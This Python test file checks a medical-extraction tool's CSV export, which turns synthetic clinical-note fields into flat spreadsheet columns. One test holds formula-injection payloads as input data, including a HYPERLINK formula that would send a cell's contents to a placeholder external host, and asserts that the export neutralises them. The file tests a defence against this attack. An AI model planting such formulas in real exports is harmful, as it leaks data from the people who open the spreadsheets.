"""`medq results --format csv`: a flat column per extracted value, for spreadsheets."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
import redis

from medq.core.errors import MedqError
from medq.core.schemas import SchemaLoader
from medq.state.results.export import csv_lines
from tests.helpers import REPO, run_cli

JOB_COLUMNS = ["job_id", "batch", "schema", "schema_version", "status", "error_kind", "error_message",
               "model", "endpoint", "attempts", "latency_ms", "usage", "metadata"]
OLD_COLUMNS = ["id", "job_id", "batch", "schema", "schema_version", "status", "data", "error_kind", "error_message",
               "model", "endpoint", "attempts", "latency_ms", "usage", "metadata"]

# minItems makes the simulator answer lists longer than one item, so [1] and [2] columns exist.
WARD_NOTE = """
name: ward_note
version: 1
fields:
  age: {type: [integer, "null"], description: Patient age in years.}
  diagnoses: {type: array, items: {type: string}, minItems: 3}
  medications:
    type: array
    minItems: 2
    items:
      type: object
      properties: {name: {type: string}, dose: {type: [string, "null"]}}
      required: [name, dose]
  vitals:
    type: object
    properties: {spo2_pct: {type: [integer, "null"]}, temperature_c: {type: [number, "null"]}}
  smoking_status: {type: [string, "null"], enum: [current, former, never, null]}
"""
NOTE = "Patient {i} is a {age}-year-old man with hypertension and asthma. Metformin 500 mg twice daily. Never smoker."


def _flat(value: Any, path: str = "") -> dict[str, str]:
    """The cells a JSON value should give: path -> text, as a reader of the CSV expects them."""
    if isinstance(value, dict):
        return {c: v for k, x in value.items() for c, v in _flat(x, f"{path}.{k}" if path else k).items()}
    if isinstance(value, list):
        return {c: v for i, x in enumerate(value) for c, v in _flat(x, f"{path}[{i}]").items()}
    return {path: "" if value is None else value if isinstance(value, str) else json.dumps(value)}


def _read(text: str) -> tuple[list[str], list[dict[str, str]]]:
    header = next(csv.reader(io.StringIO(text)))
    return header, list(csv.DictReader(io.StringIO(text)))


def test_a_real_batch_exports_one_row_per_record_with_a_column_per_value(
    r: redis.Redis, medq_env: dict[str, str], simulator: Callable[..., str], worker: Callable[..., object],
    tmp_path: Path,
) -> None:
    (tmp_path / "schemas").mkdir()
    (tmp_path / "schemas" / "ward_note.yaml").write_text(WARD_NOTE, encoding="utf-8")
    medq_env["MEDQ_SCHEMAS_DIRS"] = str(tmp_path / "schemas")
    base_url = simulator()
    worker(base_url, env={"MEDQ_LLM__REASKS": "0"})
    # the first answer does not follow the schema: one job fails, so the batch has a failed row too
    httpx.post(base_url.removesuffix("/v1") + "/sim/script", json={"outcomes": ["invalid"]}).raise_for_status()
    notes = tmp_path / "notes.jsonl"
    notes.write_text("".join(json.dumps({"id": f"r{i}", "text": NOTE.format(i=i, age=30 + i), "metadata": {"ward": "3b"}})
                             + "\n" for i in range(6)), encoding="utf-8")
    res = run_cli(["enqueue", str(notes), "--schema", "ward_note", "--wait", "--timeout-s", "120"], medq_env)
    assert res.returncode == 1, res.stderr  # one job failed
    batch = res.stdout.strip()
    out = run_cli(["results", batch], medq_env)
    docs = [json.loads(line) for line in out.stdout.splitlines()]

    res = run_cli(["results", batch, "--format", "csv", "-o", str(tmp_path / "out.csv")], medq_env)
    assert res.returncode == 0, res.stderr
    header, rows = _read((tmp_path / "out.csv").read_text(encoding="utf-8"))
    assert header == [
        "id", "age", "diagnoses[0]", "diagnoses[1]", "diagnoses[2]",
        "medications[0].name", "medications[0].dose", "medications[1].name", "medications[1].dose",
        "vitals.spo2_pct", "vitals.temperature_c", "smoking_status", *JOB_COLUMNS,
    ]
    data_columns = header[1 : -len(JOB_COLUMNS)]
    assert [row["id"] for row in rows] == [d["id"] for d in docs] == [f"r{i}" for i in range(6)]
    for row, doc in zip(rows, docs, strict=True):
        expected = _flat(doc["data"] or {})
        assert set(expected) <= set(data_columns)  # no value left out
        assert {c: row[c] for c in data_columns} == {c: expected.get(c, "") for c in data_columns}
        error = doc["error"] or {}
        assert (row["status"], row["error_kind"], row["error_message"]) == (
            doc["status"], error.get("kind", ""), error.get("message", ""))
        assert (row["job_id"], row["batch"], row["schema"], row["attempts"]) == (
            doc["job_id"], batch, "ward_note", str(doc["attempts"]))
        assert json.loads(row["metadata"]) == doc["metadata"]
    [failed] = [row for row in rows if row["status"] == "failed"]
    assert failed["error_kind"] == "output_invalid" and all(failed[c] == "" for c in data_columns)
    ok = [row for row in rows if row["status"] == "succeeded"]
    assert len(ok) == 5
    for row in ok:
        i = int(row["id"][1:])
        assert row["age"] == str(30 + i) and row["smoking_status"] == "never"
        assert json.loads(row["metadata"]) == {"ward": "3b"}
        assert row["medications[1].name"] and row["diagnoses[2]"]

    # --csv-data json: the earlier layout, the extraction as one JSON column
    res = run_cli(["results", batch, "--format", "csv", "--csv-data", "json"], medq_env)
    assert res.returncode == 0, res.stderr
    header, rows = _read(res.stdout)
    assert header == OLD_COLUMNS
    assert [json.loads(row["data"]) if row["data"] else None for row in rows] == [d["data"] for d in docs]

    bad = run_cli(["results", batch, "--format", "csv", "--csv-data", "wide"], medq_env)
    assert bad.returncode != 0 and "--csv-data must be flat or json" in bad.stderr


def _doc(rid: str, data: dict[str, Any] | None, schema: str = "clinical_note") -> dict[str, Any]:
    status = "succeeded" if data is not None else "failed"
    return {"id": rid, "job_id": f"j-{rid}", "batch": "b", "schema": schema, "schema_version": 1, "status": status,
            "data": data, "error": None if data else {"kind": "output_invalid", "message": f"record {rid}: invalid"},
            "model": "m", "endpoint": "http://127.0.0.1/v1", "attempts": 1, "latency_ms": 12.5,
            "usage": {"total_tokens": 9}, "metadata": {}}


def _note(**over: Any) -> dict[str, Any]:
    data: dict[str, Any] = {"age": 60, "sex": "female", "diagnoses": [], "medications": [], "allergies": [],
                            "vitals": None, "smoking_status": None}
    return {**data, **over}


def _export(docs: list[dict[str, Any]], data: str = "flat", schemas: SchemaLoader | None = None) -> tuple[list[str], list[dict[str, str]]]:
    loader = schemas or SchemaLoader([REPO / "configs" / "schemas"])
    return _read("\n".join(csv_lines(lambda: iter(docs), data, loader)))  # type: ignore[arg-type]


def test_list_columns_are_as_wide_as_the_longest_list_in_the_batch() -> None:
    meds = [{"name": n, "dose": d, "frequency": None} for n, d in (("aspirin", "75 mg"), ("ramipril", None), ("statin", "40 mg"))]
    header, rows = _export([
        _doc("a", _note(medications=meds[:1], diagnoses=["copd"])),
        _doc("b", _note(medications=meds, diagnoses=["copd", "af"], vitals={"temperature_c": 36.6, "heart_rate_bpm": 80,
                                                                            "systolic_bp_mmhg": None, "diastolic_bp_mmhg": None,
                                                                            "spo2_pct": 97})),
        _doc("c", None),
    ])
    assert header[:3] == ["id", "age", "sex"]
    assert [c for c in header if c.startswith(("diagnoses", "allergies"))] == ["diagnoses[0]", "diagnoses[1]", "allergies[0]"]
    assert [c for c in header if c.startswith("medications")] == [
        f"medications[{i}].{k}" for i in range(3) for k in ("name", "dose", "frequency")]
    a, b, c = rows
    assert (a["medications[0].name"], a["medications[0].dose"], a["medications[1].name"]) == ("aspirin", "75 mg", "")
    assert (b["medications[2].name"], b["medications[1].dose"], b["diagnoses[1]"]) == ("statin", "", "af")
    assert (b["vitals.temperature_c"], b["vitals.spo2_pct"], a["vitals.spo2_pct"]) == ("36.6", "97", "")
    assert all(c[col] == "" for col in header[1 : -len(JOB_COLUMNS)])
    assert (c["status"], c["error_kind"], c["error_message"]) == ("failed", "output_invalid", "record c: invalid")


def test_every_export_of_a_schema_starts_with_its_fields_in_schema_order() -> None:
    header, _ = _export([_doc("x", None)])  # nothing succeeded: the columns still come from the schema
    fields = SchemaLoader([REPO / "configs" / "schemas"]).get("clinical_note").field_names
    assert header == [
        "id", "age", "sex", "diagnoses[0]", "medications[0].name", "medications[0].dose", "medications[0].frequency",
        "allergies[0]", "vitals.temperature_c", "vitals.heart_rate_bpm", "vitals.systolic_bp_mmhg",
        "vitals.diastolic_bp_mmhg", "vitals.spo2_pct", "smoking_status", *JOB_COLUMNS,
    ]
    assert fields == ("age", "sex", "diagnoses", "medications", "allergies", "vitals", "smoking_status")


def test_values_the_schema_does_not_name_get_columns_after_its_fields() -> None:
    # a result of an older schema version, and one of a schema this machine does not have
    old = _doc("old", _note(weight_kg=71.5))
    other = _doc("other", {"id": "MRN-1", "findings": {"lvef_pct": 55}}, schema="echo_report")
    header, rows = _export([old, other])
    assert header[-len(JOB_COLUMNS):] == JOB_COLUMNS
    data_columns = header[1 : -len(JOB_COLUMNS)]
    assert data_columns[-3:] == ["weight_kg", "data.id", "findings.lvef_pct"]  # a field "id" is not the record id
    assert (rows[0]["weight_kg"], rows[1]["data.id"], rows[1]["findings.lvef_pct"], rows[1]["id"]) == (
        "71.5", "MRN-1", "55", "other")


def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted_and_numbers_are_not() -> None:
    docs = [_doc("=1+1", _note(age=-5, diagnoses=['=HYPERLINK("https://x.example/?"&B2)', "+ve", "-5", "@SUM(A1)",
                                                "-12.5", "hypertension"]))]
    _, [row] = _export(docs)
    assert [row[f"diagnoses[{i}]"] for i in range(6)] == [
        '\'=HYPERLINK("https://x.example/?"&B2)', "'+ve", "-5", "'@SUM(A1)", "-12.5", "hypertension"]
    assert row["age"] == "-5" and row["id"] == "'=1+1"
    _, [old] = _export(docs, "json")
    assert old["id"] == "'=1+1" and json.loads(old["data"])["diagnoses"][0].startswith("=HYPERLINK")


def test_a_job_that_outgrows_the_columns_between_the_two_passes_stops_the_export() -> None:
    passes = iter([[_doc("a", _note(diagnoses=["copd"]))], [_doc("a", _note(diagnoses=["copd", "af"]))]])
    lines = csv_lines(lambda: next(passes), "flat", SchemaLoader([REPO / "configs" / "schemas"]))
    assert next(lines).startswith("id,age,sex,diagnoses[0],medications[0].name")
    with pytest.raises(MedqError, match="record a: the batch's results changed"):
        next(lines)  # rather than a row without "af"
